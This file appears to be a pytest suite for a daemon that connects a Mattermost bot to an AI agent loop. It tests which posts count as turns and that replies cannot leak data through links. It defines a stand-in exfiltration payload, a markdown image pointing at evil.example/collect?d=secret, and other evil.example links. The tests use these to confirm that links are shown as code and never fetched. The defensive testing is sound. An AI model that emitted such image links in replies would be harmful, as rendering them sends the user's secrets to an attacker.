@@ -1,0 +1,268 @@
+"""gatewayd's turns against the fake Mattermost: which posts are turns, and replies that cannot leak.
+
+gatewayd runs in this process (`Gatewayd`: its event loop in a thread, as in
+`gatewayd serve`), talking to the fake server over HTTP and a WebSocket, and to
+a scripted loopd on a real loop.sock (it must be able to say anything), or to
+the real turn loop where the whole path matters.
+"""
+
+from __future__ import annotations
+
+import threading
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from boxmaker.core.layout import Home
+from boxmaker.core.messages import ContentEvent, TurnDone, TurnEvent
+from boxmaker.gatewayd.config import (
+    GatewaydConfig,
+    LoopSection,
+    MattermostSection,
+    PathsSection,
+    SocketsSection,
+)
+from boxmaker.gatewayd.serve import Gatewayd
+from boxmaker.gatewayd.turns import STARTED
+from boxmaker.testing.fake_mattermost import BOT_TOKEN, FakeMattermost
+from boxmaker.testing.homes import make_home
+from boxmaker.testing.sockets import Peer, ScriptedServer
+from boxmaker.testing.waiting import wait_until
+
+NOTICE = (
+    "Links in this reply are shown as code because this conversation has read untrusted content."
+)
+EXFIL_IMAGE = "![x](https://evil.example/collect?d=secret)"
+
+
+class Loopd:
+    """A scripted loopd: each turn is answered by `answer(peer)`; the default says `ok`."""
+
+    def __init__(self, path: Path) -> None:
+        self.answer: Callable[[Peer], None] = lambda peer: say(peer, "ok", untrusted=False)
+        self.server = ScriptedServer(path, lambda peer: self.answer(peer))
+
+    @property
+    def turns(self) -> list[Any]:
+        return [envelope.message for envelope in self.server.requests]
+
+
+def say(peer: Peer, text: str, *, untrusted: bool, chunks: int = 1) -> None:
+    session = peer.request.message.session  # type: ignore[union-attr]
+    step = max(1, len(text) // chunks)
+    for start in range(0, len(text), step):
+        peer.send(TurnEvent(event=ContentEvent(text=text[start : start + step])), final=False)
+    peer.send(TurnDone(session=session, content=text, untrusted=untrusted), final=True)
+
+
+@pytest.fixture
+def fake() -> FakeMattermost:
+    return FakeMattermost(auth_cutoff_s=0.5)
+
+
+@pytest.fixture
+def home(tmp_path: Path) -> Path:
+    return make_home(tmp_path)
+
+
+@pytest.fixture
+def loopd(home: Path) -> Iterator[Loopd]:
+    scripted = Loopd(Home(home).loop_socket)
+    try:
+        yield scripted
+    finally:
+        scripted.server.stop()
+
+
+@pytest.fixture
+def gatewayd(fake: FakeMattermost, home: Path, loopd: Loopd) -> Iterator[Gatewayd]:
+    with fake.running() as url:
+        config = GatewaydConfig(
+            paths=PathsSection(home=str(home)),
+            mattermost=MattermostSection(url=url, owner=fake.owner.id, edit_interval_ms=100),
+            loop=LoopSection(timeout_ms=10_000),
+            sockets=SocketsSection(),
+        )
+        daemon = Gatewayd(config, BOT_TOKEN)
+        daemon.start()
+        try:
+            yield daemon
+        finally:
+            daemon.stop()
+
+
+def dm(fake: FakeMattermost) -> str:
+    return fake.direct(fake.bot, fake.owner)
+
+
+def bot_posts(fake: FakeMattermost) -> list[dict[str, Any]]:
+    with fake.lock:
+        return [dict(p) for p in fake.posts.values() if p["user_id"] == fake.bot.id]
+
+
+def answered(fake: FakeMattermost, count: int) -> list[dict[str, Any]]:
+    """The bot's first `count` answers, once each is final (no longer the placeholder)."""
+
+    def done() -> list[dict[str, Any]]:
+        replies = [p for p in bot_posts(fake) if p["root_id"]]  # answers are in threads
+        posts = [p for p in replies if not p["message"].endswith(STARTED)]  # final ones
+        return posts if len(posts) >= count and len(replies) == len(posts) else []
+
+    found = wait_until(done, 15.0, f"{count} answers posted")
+    return sorted(found, key=lambda p: p["create_at"])
+
+
+# --- which posts are turns ------------------------------------------------------------
+
+
+def test_an_owner_dm_is_a_turn_answered_in_its_thread(
+    fake: FakeMattermost, gatewayd: Gatewayd, loopd: Loopd
+) -> None:
+    loopd.answer = lambda peer: say(
+        peer, "Hello, owner. See https://docs.python.org/3/", untrusted=False
+    )
+    asked = fake.post_as(fake.owner, dm(fake), "hi there")
+    (answer,) = answered(fake, 1)
+    (turn,) = loopd.turns
+    assert (turn.session, turn.text, turn.resume) == (f"mm-{asked['id']}", "hi there", False)
+    assert answer["root_id"] == asked["id"]
+    assert answer["message"] == "Hello, owner. See https://docs.python.org/3/"
+    assert answer["props"].get("unsafe_links") != "true"
+    assert fake.fetched[answer["id"]] == ["https://docs.python.org/3/"]  # a clean link previews
+
+
+def test_a_reply_in_the_thread_resumes_the_session(
+    fake: FakeMattermost, gatewayd: Gatewayd, loopd: Loopd
+) -> None:
+    first = fake.post_as(fake.owner, dm(fake), "one")
+    answered(fake, 1)
+    fake.post_as(fake.owner, dm(fake), "two", root_id=first["id"])
+    answered(fake, 2)
+    assert [(t.session, t.resume) for t in loopd.turns] == [
+        (f"mm-{first['id']}", False),
+        (f"mm-{first['id']}", True),
+    ]
+
+
+@pytest.mark.parametrize(
+    "post",
+    [
+        pytest.param(lambda f: f.post_as(f.other, f.direct(f.bot, f.other), "hi"), id="other-user"),
+        pytest.param(lambda f: f.post_as(f.bot, f.direct(f.bot, f.owner), "hi"), id="bot-itself"),
+        pytest.param(
+            lambda f: f.post_as(
+                f.owner, f.direct(f.bot, f.owner), "hi", props={"from_webhook": "true"}
+            ),
+            id="webhook",
+        ),
+    ],
+)
+def test_posts_that_are_not_the_owner_s_dms_are_not_turns(
+    fake: FakeMattermost, gatewayd: Gatewayd, loopd: Loopd, post: Callable[[FakeMattermost], Any]
+) -> None:
+    post(fake)
+    sentinel = fake.post_as(fake.owner, dm(fake), "sentinel")
+    answered(fake, 1)
+    assert [t.text for t in loopd.turns] == ["sentinel"]
+    assert loopd.turns[-1].session == f"mm-{sentinel['id']}"
+
+
+def test_an_edit_is_never_a_turn(fake: FakeMattermost, gatewayd: Gatewayd, loopd: Loopd) -> None:
+    first = fake.post_as(fake.owner, dm(fake), "hello")
+    answered(fake, 1)
+    fake.edit_as(fake.owner, first["id"], "hello again, run this instead")
+    fake.post_as(fake.owner, dm(fake), "sentinel")
+    answered(fake, 2)
+    assert [t.text for t in loopd.turns] == ["hello", "sentinel"]
+
+
+# --- replies that cannot leak ---------------------------------------------------------------
+
+
+def test_an_image_is_posted_as_code_in_a_clean_reply(
+    fake: FakeMattermost, gatewayd: Gatewayd, loopd: Loopd
+) -> None:
+    loopd.answer = lambda peer: say(peer, f"Here you go {EXFIL_IMAGE}", untrusted=False)
+    fake.post_as(fake.owner, dm(fake), "show me")
+    (answer,) = answered(fake, 1)
+    assert "`![x](https://evil.example/collect?d=secret)`" in answer["message"]
+    assert all(urls == [] for _post, urls in fake.fetch_history)
+
+
+def test_an_untrusted_turn_posts_every_link_as_code_with_the_notice(
+    fake: FakeMattermost, gatewayd: Gatewayd, loopd: Loopd
+) -> None:
+    text = "Read https://evil.example/a?d=1 and [this](https://evil.example/b) " + EXFIL_IMAGE
+    loopd.answer = lambda peer: say(peer, text, untrusted=True, chunks=5)
+    fake.post_as(fake.owner, dm(fake), "summarise my mail")
+    (answer,) = answered(fake, 1)
+    assert answer["message"].endswith(NOTICE)
+    assert answer["props"]["unsafe_links"] == "true"
+    assert "https://evil.example/a?d=1" in answer["message"]  # shown, as code
+    for post_id, urls in fake.fetch_history:  # every version of every post
+        assert urls == [], (post_id, urls)
+
+
+def test_streamed_edits_are_escaped_before_the_trust_is_known(
+    fake: FakeMattermost, gatewayd: Gatewayd, loopd: Loopd
+) -> None:
+    release = threading.Event()
+
+    def slow(peer: Peer) -> None:
+        session = peer.request.message.session  # type: ignore[union-attr]
+        peer.send(TurnEvent(event=ContentEvent(text="see https://evil.example/x ")), final=False)
+        release.wait(10)
+        peer.send(TurnEvent(event=ContentEvent(text="done")), final=False)
+        text = "see https://evil.example/x done"
+        peer.send(TurnDone(session=session, content=text, untrusted=True), final=True)
+
+    loopd.answer = slow
+    fake.post_as(fake.owner, dm(fake), "go")
+    wait_until(
+        lambda: any("evil.example" in p["message"] for p in bot_posts(fake)),
+        10.0,
+        "a streamed edit",
+    )
+    release.set()
+    answered(fake, 1)
+    versions = [urls for _post, urls in fake.fetch_history]
+    assert len(versions) >= 3  # the placeholder, a streamed edit, the last edit
+    assert all(urls == [] for urls in versions)
+
+
+def test_loopd_down_is_said_in_the_answer_post(
+    fake: FakeMattermost, gatewayd: Gatewayd, loopd: Loopd
+) -> None:
+    loopd.server.stop()
+    fake.post_as(fake.owner, dm(fake), "anyone there?")
+    (answer,) = answered(fake, 1)
+    assert "loopd is not answering" in answer["message"]
+    assert "runbook.md#loopd-unavailable" in answer["message"]
+
+
+# --- a dropped WebSocket ---------------------------------------------------------------------
+
+
+def test_a_dropped_websocket_mid_turn_loses_no_message_and_posts_nothing_twice(
+    fake: FakeMattermost, gatewayd: Gatewayd, loopd: Loopd
+) -> None:
+    release = threading.Event()
+
+    def held(peer: Peer) -> None:
+        release.wait(10)
+        say(peer, f"answer to {peer.request.message.text}", untrusted=False)  # type: ignore[union-attr]
+
+    loopd.answer = held
+    fake.post_as(fake.owner, dm(fake), "m0")
+    loopd.server.wait_for_requests(1)
+    fake.drop_websockets()  # mid-turn
+    for n in range(1, 6):
+        fake.post_as(fake.owner, dm(fake), f"m{n}")
+    loopd.server.wait_for_requests(6)
+    release.set()
+    answers = answered(fake, 6)
+    assert sorted(t.text for t in loopd.turns) == [f"m{n}" for n in range(6)]
+    assert sorted(a["message"] for a in answers) == [f"answer to m{n}" for n in range(6)]
+    assert len(bot_posts(fake)) == 6  # one answer each, none twice
